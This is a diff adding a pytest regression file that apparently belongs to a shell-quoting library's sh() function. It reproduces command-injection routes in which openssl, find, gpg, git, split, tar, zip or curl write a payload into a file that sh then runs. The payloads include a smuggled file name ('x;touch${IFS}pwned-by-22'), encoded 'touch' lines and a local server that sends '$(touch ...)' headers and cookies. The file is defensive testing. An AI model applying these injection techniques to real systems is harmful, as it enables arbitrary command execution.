@@ -1,0 +1,166 @@
+"""sh(): hostile contexts of the twenty-sixth pass.
+
+Each hole was reproduced with the old render (each value through ``shlex.quote``, which is what
+sh() gave for these templates) in real dash and bash, then refused by allow-list:
+
+* A file a value names, written by a program the writers' tables did not list, before a command
+  that runs it.  With the value ``s.sh`` (or the prefix ``s``), each of these put a line that
+  makes the sentinel in the file that ``sh`` then ran:
+
+  - ``openssl base64 -d -in p.b64 -out {f}``;
+  - ``find . -name 'x;*' -fprint {f}`` (also ``-fprintf {f} '%p\\n'`` and ``-fls {f}``), which
+    wrote the name of a file called ``x;touch${IFS}pwned-by-22``;
+  - ``gpg --dearmor -o {f} p.asc`` (and ``--output``);
+  - ``git log -1 --format=%s note --output={f}``, of a commit whose message is that line;
+  - ``csplit -s -f {prefix} payload 1`` and ``split payload {prefix}``;
+  - ``tar -cf {f} arch/*``, whose member's name (a newline, then the line) starts a line;
+  - ``zip -q -X {f} p2; sh t.sh`` with ``t.sh``, whose stored member is the line;
+  - ``curl -D {f} URL`` and ``curl -c {f} URL``: a header and a cookie the server chose
+    (``$(touch ...)``).
+
+  openssl, find, gpg, git and csplit get a table of output options of their own: writers, but
+  not copies nor known to wait for what they run, which _OUTPUT_OPTIONS implies (why the
+  twenty-fifth pass took openssl back out).  curl's and tar's join _OUTPUT_OPTIONS (both were
+  writers already).  zip's first operand and split's second are outputs; zip and split (which
+  may run a command: zip -TT, split --filter) stay out of the programs whose path operands are
+  exempt from the executable-by-path check.  Alone, or with the value as an input, they stay
+  accepted (run).
+
+Not shown, left accepted: ``curl --trace``/``--trace-ascii`` (its first lines hold parentheses,
+a syntax error before any payload), ``strace -o`` (its trace lines are syntax errors too),
+``convert``, and tar's old style ``tar cf {f} ...``.
+"""
+
+from __future__ import annotations
+
+import http.server
+import os
+import pathlib
+import subprocess
+import threading
+from collections.abc import Iterator
+
+import pytest
+from test_shell_contexts import SHELLS
+from test_shell_twentieth_pass import _run, _template
+from test_shell_twenty_second_pass import _TOUCH, SENTINEL, _git, _prepare, _show_then_refuse
+
+from ipy_istring.shell import sh
+
+_WRITES = "written to the file|in a command writing"
+_HOSTILE_HEADER = f"$({_TOUCH})"
+
+
+def _prepare_more(where: pathlib.Path) -> None:
+    """The twenty-second pass's files, and: payload base64-encoded (``p.b64``) and armored by
+    gpg (``p.asc``); a file named ``x;touch ...`` for find; ``p2``, payload after an empty line;
+    ``arch/``, holding a file whose name is a newline and payload (for tar); and a branch
+    ``note`` whose commit's message is payload's line."""
+    _prepare(where)
+    (where / "p.b64").write_text("dG91Y2ggcHduZWQtYnktMjIK\n")  # (`touch pwned-by-22`)
+    home = where / "home"
+    armored = subprocess.run(
+        ["gpg", "--batch", "--enarmor"], input=(where / "payload").read_bytes(),
+        capture_output=True, check=True, env={"HOME": str(home), "GNUPGHOME": str(home)},
+    )  # fmt: skip
+    (where / "p.asc").write_bytes(armored.stdout)
+    (where / "x;touch${IFS}pwned-by-22").write_text("")
+    (where / "p2").write_text(f"\n{_TOUCH}\n")
+    # (2012-11-01 12:11:02 UTC: zip's header writes it as the letters `aaaA`, no syntax)
+    os.utime(where / "p2", (1351771862, 1351771862))
+    (where / "arch").mkdir()
+    (where / "arch" / f"\n{_TOUCH} #").write_text("")
+    _git(where, "checkout", "-q", "-b", "note")
+    _git(where, "commit", "--allow-empty", "-qm", _TOUCH)
+    _git(where, "checkout", "-q", "main")
+
+
+class _Hostile(http.server.BaseHTTPRequestHandler):
+    """A server whose header and cookie are a command substitution."""
+
+    def do_GET(self) -> None:
+        self.send_response(200)
+        self.send_header("X-A", _HOSTILE_HEADER)
+        self.send_header("Set-Cookie", f"a={_HOSTILE_HEADER}")
+        self.send_header("Content-Length", "0")
+        self.end_headers()
+
+    def log_message(self, *args: object) -> None:
+        """(quiet)"""
+
+
+@pytest.fixture(scope="module")
+def hostile_url() -> Iterator[str]:
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Hostile)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield f"http://127.0.0.1:{server.server_address[1]}/"
+    server.shutdown()
+    server.server_close()
+
+
+WRITER_CASES = [
+    # (template, the value)
+    ("openssl base64 -d -in p.b64 -out §; sh s.sh", "s.sh"),
+    ("find . -name 'x;*' -fprint §; sh s.sh", "s.sh"),
+    ("find . -name 'x;*' -fprintf § '%p\\n'; sh s.sh", "s.sh"),
+    ("find . -name 'x;*' -fls §; sh s.sh", "s.sh"),
+    ("gpg --batch --yes -q --dearmor -o § p.asc; sh s.sh", "s.sh"),
+    ("gpg --batch --yes -q --dearmor --output § p.asc; sh s.sh", "s.sh"),
+    ("git log -1 --format=%s note --output=§; sh s.sh", "s.sh"),
+    ("csplit -s -f § payload 1; sh s01", "s"),
+    ("split payload §; sh saa", "s"),
+    ("tar -cf § arch/*; sh s.sh", "s.sh"),
+    # (s.sh exists: zip would read it as an archive; sh's errors quote bytes not UTF-8)
+    ("zip -q -X § p2; sh t.sh 2>errors", "t.sh"),
+]
+
+
+@pytest.mark.parametrize("case, value", WRITER_CASES)
+@pytest.mark.parametrize("shell", SHELLS)
+def test_a_file_a_value_names_written_by_another_writer_is_refused(
+    shell: str, case: str, value: str, tmp_path: pathlib.Path
+) -> None:
+    # (the writer put a line making the sentinel in the file, which sh ran)
+    _show_then_refuse(shell, case, [value], tmp_path, _WRITES, _prepare_more)
+
+
+@pytest.mark.parametrize("option", ["-D", "-c"])
+@pytest.mark.parametrize("shell", SHELLS)
+def test_curl_s_headers_and_cookies_written_to_a_file_a_value_names_are_refused(
+    shell: str, option: str, hostile_url: str, tmp_path: pathlib.Path
+) -> None:
+    # (the server chose the header and the cookie: a command substitution sh ran)
+    case = f"curl -s {option} § {hostile_url}; sh s.sh"
+    _show_then_refuse(shell, case, ["s.sh"], tmp_path, _WRITES, _prepare_more)
+
+
+@pytest.mark.parametrize(
+    "case, value",
+    [
+        ("openssl base64 -d -in p.b64 -out §", "out.txt"),
+        ("openssl base64 -d -in § -out out.txt; sh s.sh", "p.b64"),
+        ("find . -name 'x;*' -fprint §", "out.txt"),
+        ("find . -name § -fprint out.txt; sh s.sh", "p2"),
+        ("gpg --batch --yes -q --dearmor -o § p.asc", "out.txt"),
+        ("git log -1 --format=%s note --output=§", "out.txt"),
+        ("csplit -s -f § payload 1", "out"),
+        ("split payload §", "out"),
+        ("split -l § payload out; sh s.sh", "1"),
+        ("tar -cf § arch/*", "out.tar"),
+        ("zip -q -X § p2", "out.zip"),
+        ("zip -q out.zip §; sh s.sh", "p2"),
+    ],
+)
+@pytest.mark.parametrize("shell", SHELLS)
+def test_those_writers_alone_or_reading_the_value_stay_accepted(
+    shell: str, case: str, value: str, tmp_path: pathlib.Path
+) -> None:
+    _prepare_more(tmp_path)
+    done = _run(shell, sh(_template(case, value)), tmp_path)
+    assert done.returncode == 0, done.stderr
+    assert not (tmp_path / SENTINEL).exists()
+
+
+def test_curl_s_cookie_jar_alone_stays_accepted(hostile_url: str) -> None:
+    assert sh(_template(f"curl -s -c § {hostile_url}", "jar.txt"))
